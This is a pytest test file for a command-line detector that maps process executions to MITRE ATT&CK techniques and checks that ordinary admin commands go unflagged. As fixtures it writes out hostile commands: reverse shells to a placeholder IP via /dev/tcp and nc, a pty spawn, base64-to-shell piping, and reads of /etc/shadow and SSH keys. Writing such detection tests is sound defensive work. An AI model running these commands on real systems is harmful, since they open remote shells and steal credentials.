"""What intruders do, found in command lines by tables: whole words, their order, places; nothing in what administrators do all day."""

from __future__ import annotations

import numpy as np
import pytest

from daemoneye_analytics.behaviour import signs
from daemoneye_analytics.behaviour.tokens import words


def shown(program, *argv, hidden=False):
    """Technique and bits of each sign of one execution."""
    return found([(program, argv, hidden)])[0]


def found(executions):
    lines = [b"\0".join(a.encode() for a in argv) + b"\0" for _, argv, _ in executions]
    length = np.array([len(line) for line in lines])
    _, _, parts = words(np.frombuffer(b"".join(lines), np.uint8), np.cumsum(length) - length, length)
    programs = [signs.program(path) for path, _, _ in executions]
    numbers = signs.find(
        parts,
        np.array([number for number, _ in programs], np.uint64),
        np.array([hidden for *_, hidden in executions], bool),
        np.array([shell and len(argv) == 1 for (_, shell), (_, argv, _) in zip(programs, executions, strict=True)]),
    )
    out = []
    for row in numbers.tolist():
        known = [(signs.meaning(number), signs.bits(np.array([number], np.uint64))[0]) for number in row if number]
        out.append([(meaning[1].id, float(bits)) for meaning, bits in known if meaning])
    return out


@pytest.mark.parametrize(
    ("execution", "technique", "bits"),
    [
        (("/bin/sh", "sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), "T1059.004", 7),
        (("/usr/bin/nc", "nc", "192.0.2.1", "443", "-e", "/bin/sh"), "T1059.004", 7),
        (("/usr/bin/dash", "sh"), "T1059.004", 4),
        (("/usr/bin/python3.11", "python3", "-c", "import pty; pty.spawn('/bin/sh')"), "T1059", 7),
        (("/usr/bin/base64", "base64", "--decode"), "T1140", 5),
        (("/bin/sh", "sh", "-c", "echo aWQ= | base64 -d | sh"), "T1140", 5),
        (("/usr/bin/cat", "cat", "/etc/shadow"), "T1003.008", 6),
        (("/usr/bin/find", "find", "/", "-perm", "-4000"), "T1548.001", 4),
        (("/usr/bin/cp", "cp", "/bin/true", "/tmp/.x/run"), "T1564.001", 5),
        (("/opt/x", "x", "-o", "stratum+tcp://pool:3333"), "T1496", 7),
        (("/usr/bin/sudo", "sudo", "-l"), "T1548.003", 6),
    ],
)
def test_what_intruders_do_has_signs(execution, technique, bits):
    assert (technique, float(bits)) in shown(*execution)


@pytest.mark.parametrize(
    "execution",
    [
        ("/usr/bin/git", "git", "log", "--oneline"), ("/usr/bin/make", "make", "-j4", "all"), ("/bin/sh", "sh", "-c", "sort /srv/a | uniq"),
        ("/usr/bin/sudo", "sudo", "systemctl", "restart", "nginx"), ("/usr/bin/cp", "cp", "/tmp/../etc/a", "/tmp/./b"), ("/bin/date",),
        ("/usr/bin/grep", "grep", "-c", "passed", "results"),
    ],
    ids=" ".join,
)  # fmt: skip
def test_what_administrators_do_has_none(execution):
    assert shown(*execution) == []


def test_a_program_in_an_odd_place_is_a_sign_whatever_it_is_called():
    assert shown("/dev/shm/date", "date", hidden=True) == [("T1036", 5.0)]


def test_signs_do_not_depend_on_the_other_executions():
    many = [
        ("/bin/cat", ("cat", "/etc/shadow", "/etc/passwd"), False), ("/bin/date", (), False), ("/usr/bin/id", ("id",), False),
        ("/bin/sh", ("sh",), True), ("/usr/bin/python3.11", ("python3", "-c", "import os; os.setuid(0)"), False),
    ]  # fmt: skip
    assert found(many) == [found([one])[0] for one in many]
    assert len(found(many)[0]) == 2


def test_of_many_signs_those_with_most_bits_are_kept():
    line = "id; w; uname -a; cat /etc/shadow /etc/passwd /etc/group ~/.ssh/id_rsa; bash -i >& /dev/tcp/h/1; base64 -d; sudo -l"
    mine = shown("/bin/sh", "sh", "-c", line)
    assert len(mine) == signs.WIDTH
    assert [bits for _, bits in mine] == sorted((bits for _, bits in mine), reverse=True)
    assert mine[0] == ("T1059.004", 7.0)


def test_a_sign_of_another_version_has_no_bits_and_no_meaning():
    assert signs.bits(np.array([0, 12345], np.uint64)).tolist() == [0.0, 0.0]
    assert signs.meaning(12345) is None
    assert all(technique.id.startswith("T1") for technique in signs.TECHNIQUES)
